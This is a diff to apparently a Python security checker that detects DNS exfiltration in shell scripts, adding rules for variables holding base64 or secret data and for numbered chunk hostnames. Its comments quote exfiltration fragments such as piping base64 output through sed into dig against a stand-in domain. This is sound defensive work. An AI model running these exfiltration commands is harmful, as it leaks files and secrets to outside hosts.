@@ -46,16 +46,25 @@ def judge_script(script: Script, home: str) -> Verdict | None:
     if not any(invocation.name in _RESOLVERS for stages in pipelines for invocation in stages):
         return None  # most scripts look nothing up: what feeds them is not worked out
     fed: set[str] = set()
-    """Variables ``read`` from encoded, chunked or secret data, in the order the script runs."""
+    """Variables ``read`` from (or assigned) encoded, chunked or secret data, in the order the script runs."""
+    lines: set[str] = set()
+    """Variables ``read`` from anything: numbered, one is spelled into names (``$i.$line.x.example``)."""
     for stages in pipelines:
         data = named = False
         for invocation in stages:
             name = invocation.name
-            if name == "read" and (data or _reads_data_redirect(invocation, home)):
-                fed.update(_read_variables(invocation))
+            _assigned_data(invocation, fed, home)
+            if name == "read":
+                lines.update(_read_variables(invocation))
+                if data or _reads_data_redirect(invocation, home):
+                    fed.update(_read_variables(invocation))
             if name in _RESOLVERS:
                 placeholders = _placeholders(invocation) if data else ()
-                if _spells(invocation, fed, placeholders) or (named and _takes_names(invocation, fed)):
+                if (
+                    _spells(invocation, fed, placeholders)
+                    or _numbers_chunks(invocation, lines)
+                    or (named and _takes_names(invocation, fed))
+                ):
                     return _verdict(
                         EXFILTRATION,
                         invocation,
@@ -66,6 +75,41 @@ def judge_script(script: Script, home: str) -> Verdict | None:
             # base64 f | sed 's/$/.x.example/' | xargs dig: the domain put behind each chunk upstream
             named = named or (data and name in _EDITORS and _adds_domain(invocation))
     return None
+
+
+def _assigned_data(invocation: Invocation, fed: set[str], home: str) -> None:
+    """``DATA=$(base64 -w0 f)``, then ``CHUNK=${DATA:$i:200}``: a variable assigned encoded or secret data
+    (or a slice of a variable that holds it) is fed as one ``read`` from it is."""
+    command = invocation.command
+    for word in invocation.env:
+        variable, equals, _ = word.partition("=")
+        if not equals or not re.fullmatch(r"[A-Za-z_]\w*", variable):
+            continue
+        made = any(
+            _makes_data(stage, home)
+            for sub in command.substitutions_in(word)
+            for stages in walk(sub.script)
+            for stage in stages
+        )
+        if made or any(m.group(1) in fed for m in _VARIABLE.finditer(command.render(word).partition("=")[2])):
+            fed.add(variable)
+
+
+_NUMBERED_CHUNK = lazy_compile(
+    r"(?:^|[\"'./])(?:\d+|\$\{?[A-Za-z_]\w*\}?|\$\(\([^)]*\)\))\.\$\{?([A-Za-z_]\w*)\}?" + _DOMAIN_TAIL
+)
+"""``$i.$chunk.x.example``, ``0.$line.x.example`` (the counter's first value): a sequence number, then a line
+read, then a domain: the lines of a file put back together in order by the domain's name server."""
+
+
+def _numbers_chunks(invocation: Invocation, lines: set[str]) -> bool:
+    """Whether a resolver's host name is a counter, a ``read`` variable and a domain (a word list's
+    subdomains are looked up as ``$sub.example.org``, unnumbered)."""
+    for word in map(invocation.command.render, invocation.command.words[1:]):
+        for match in _NUMBERED_CHUNK.finditer(word):
+            if match.group(1) in lines:
+                return True
+    return False
 
 
 _EDITORS = frozenset({"sed", "gsed", "awk", "gawk", "mawk", "perl", "paste", "xargs"})
